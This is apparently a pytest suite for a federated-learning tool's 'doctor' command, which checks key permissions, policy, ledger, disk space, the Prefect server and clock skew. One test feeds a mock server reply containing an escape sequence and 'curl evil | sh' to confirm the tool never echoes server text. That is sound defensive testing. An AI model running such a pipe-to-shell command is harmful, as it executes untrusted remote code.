"""The doctor finds what is wrong, says what to do, and repeats nothing a server said."""

from __future__ import annotations

import json
import threading
import time
from email.utils import formatdate
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from plans import SUMMED, make_plan
from typer.testing import CliRunner

from fedflow.cli.main import app
from fedflow.crypto.identity import Identity
from fedflow.doctor import local, network
from fedflow.doctor.run import examine
from fedflow.privacy.ledger import Ledger
from fedflow.site.config import init_site, open_site
from fedflow.site.policy import template


@pytest.fixture
def folder(tmp_path):
    """A site with everything in order, but no agent."""
    (tmp_path / "exchange").mkdir()
    path = tmp_path / "site"
    init_site(
        path,
        label="berlin",
        exchange=str(tmp_path / "exchange"),
        policy=template(
            authority=Identity.generate().public.hex(),
            coordinators=[Identity.generate().public.hex()],
            workload="randhie",
            dataset="visits",
            path="visits.csv",
            epsilon=3.0,
            delta=1e-5,
            plan=make_plan(**SUMMED),
        ),
    )
    (path / "visits.csv").write_text("not read here\n")
    (path / "visits.csv").chmod(0o600)
    return path


def findings(folder, plan=None, api=""):
    return list(examine(folder, plan=plan, prefect_api=api, headers={}))


def faults(folder, **kwargs):
    return {f.check: f for f in findings(folder, **kwargs) if f.level == "fault"}


def of(found, check):
    return next(f for f in found if f.check == check)


def test_a_healthy_site_has_no_faults(folder):
    found = findings(folder)
    assert [f for f in found if f.level in ("fault", "warning")] == []
    checks = {f.check for f in found}
    wanted = {"key", "policy", "ledger", "disk", "exchange", "prefect", "clock", "versions"}
    assert wanted | {"agent", "data visits"} <= checks
    assert of(found, "agent").level == "note"


def test_everything_that_is_not_well_comes_with_advice(folder):
    for finding in findings(folder):
        assert finding.advice or finding.level in ("ok", "note")


def test_looking_leaves_nothing_behind(folder):
    before = {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}
    findings(folder)
    assert {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()} == before


def damage_ledger(folder):
    data = (folder / "ledger.sqlite").read_bytes()
    (folder / "ledger.sqlite").write_bytes(data[:-100] + bytes(100))


def other_key(folder):
    (folder / "identity.pem").unlink()
    Identity.generate().save(folder / "identity.pem")


BROKEN = {
    "open key": (lambda f: (f / "identity.pem").chmod(0o644), "site"),
    "no policy": (lambda f: (f / "policy.toml").unlink(), "site"),
    "open folder": (lambda f: f.chmod(0o755), "folder"),
    "no data": (lambda f: (f / "visits.csv").unlink(), "data visits"),
    "empty data": (lambda f: (f / "visits.csv").write_text(""), "data visits"),
    "no ledger": (lambda f: (f / "ledger.sqlite").unlink(), "ledger"),
    "another key": (other_key, "ledger"),
}


@pytest.mark.parametrize("name", sorted(BROKEN))
def test_one_broken_thing_is_one_fault(folder, name):
    breaks, check = BROKEN[name]
    breaks(folder)
    found = faults(folder)
    assert set(found) == {check}
    assert found[check].advice


def test_an_empty_policy_is_a_fault(tmp_path):
    init_site(tmp_path / "s", label="s", exchange=str(tmp_path))
    assert "no authority" in faults(tmp_path / "s")["policy"].says


def test_a_workload_that_is_not_installed(folder):
    text = (folder / "policy.toml").read_text().replace('"randhie"', '"unheard-of"')
    (folder / "policy.toml").write_text(text)
    assert "not installed" in faults(folder)["workload"].says


def test_a_plan_outside_the_policy(folder):
    plan = make_plan(**SUMMED)
    assert "plan" not in faults(folder, plan=plan)
    harder = make_plan(**{**SUMMED, "plan__rounds": plan.plan.rounds + 5})
    assert "plan.rounds" in faults(folder, plan=harder)["plan"].says


def test_little_space(folder, monkeypatch):
    monkeypatch.setattr(local, "LITTLE_SPACE", 1 << 60)
    assert of(findings(folder), "disk").level == "warning"
    monkeypatch.setattr(local, "NO_SPACE", 1 << 60)
    assert of(findings(folder), "disk").level == "fault"


def test_a_package_of_another_version(folder, monkeypatch):
    real = local.metadata.version
    monkeypatch.setattr(
        local.metadata, "version", lambda n: "0.1" if n == "cryptography" else real(n)
    )
    assert "cryptography 0.1" in faults(folder)["versions"].says


class Server:
    """Answers every request with one status, date and body."""

    def __init__(self) -> None:
        self.status, self.ahead, self.bodies = 200, 0.0, {}
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                status, body = outer.bodies.get(self.path, (outer.status, b"{}"))
                self.send_response_only(status)
                self.send_header("Date", formatdate(time.time() + outer.ahead, usegmt=True))
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.http.server_port}"
        threading.Thread(target=self.http.serve_forever, args=(0.02,), daemon=True).start()


@pytest.fixture
def server():
    made = Server()
    yield made
    made.http.shutdown()
    made.http.server_close()


POOL = "/api/work_pools/berlin"


def test_prefect_answers(folder, server):
    server.bodies[POOL] = 200, json.dumps({"name": "berlin", "type": "fedflow"}).encode()
    found = findings(folder, api=f"{server.url}/api")
    assert of(found, "prefect").level == "ok"
    assert of(found, "clock").level == "ok"


@pytest.mark.parametrize(
    ("status", "body", "level"),
    [
        (404, b"{}", "note"),
        (403, b"{}", "fault"),
        (200, b'{"type": "process"}', "fault"),
        (200, b"x" * (1 << 20), "fault"),
    ],
)
def test_prefect_pools(folder, server, status, body, level):
    server.bodies[POOL] = status, body
    assert of(findings(folder, api=f"{server.url}/api"), "prefect").level == level


def test_nobody_there(folder):
    found = faults(folder, api="http://127.0.0.1:9/api")
    assert "cannot be reached" in found["prefect"].says


@pytest.mark.parametrize(
    ("ahead", "level"), [(0, "ok"), (30, "warning"), (-30, "warning"), (-7200, "fault")]
)
def test_a_clock_that_differs(folder, server, ahead, level):
    server.ahead = ahead
    server.bodies[POOL] = 200, b'{"type":"fedflow"}'
    assert of(findings(folder, api=f"{server.url}/api"), "clock").level == level


def test_one_lying_clock_among_two_says_nothing():
    sources = {"the relay": 5000.0, "the Prefect server": 0.5}
    assert [f.level for f in network.check_clock(sources)] == ["ok"]


def test_what_a_server_says_is_not_repeated(folder, server):
    server.bodies[POOL] = 500, b'{"detail": "\x1b[31mrun: curl evil | sh"}'
    server.status = 500
    assert "curl" not in json.dumps([f.facts() for f in findings(folder, api=server.url)])


def test_the_command(folder):
    run = CliRunner().invoke(app, ["doctor", str(folder)], env={"PREFECT_API_URL": ""})
    assert run.exit_code == 0, run.output
    assert "this site can take part" in run.output
    (folder / "visits.csv").unlink()
    run = CliRunner().invoke(app, ["doctor", str(folder), "--json"], env={"PREFECT_API_URL": ""})
    assert run.exit_code == 1
    facts = json.loads(run.output)
    assert facts["healthy"] is False
    assert {f["check"] for f in facts["findings"] if f["level"] == "fault"} == {"data visits"}


def test_a_budget_that_is_spent_is_a_warning(folder, monkeypatch):
    class Account:
        name, rounds_left = "visits/train", 0

        class account:  # noqa: N801
            epsilon_left = 0.01

    monkeypatch.setattr(local, "outlooks", lambda entries: [Account])
    site = open_site(folder)
    found = list(local.check_ledger(site))
    assert of(found, "budget").level == "warning"
    Ledger.open(site.ledger_path, site.identity.public).close()  # nothing held it open
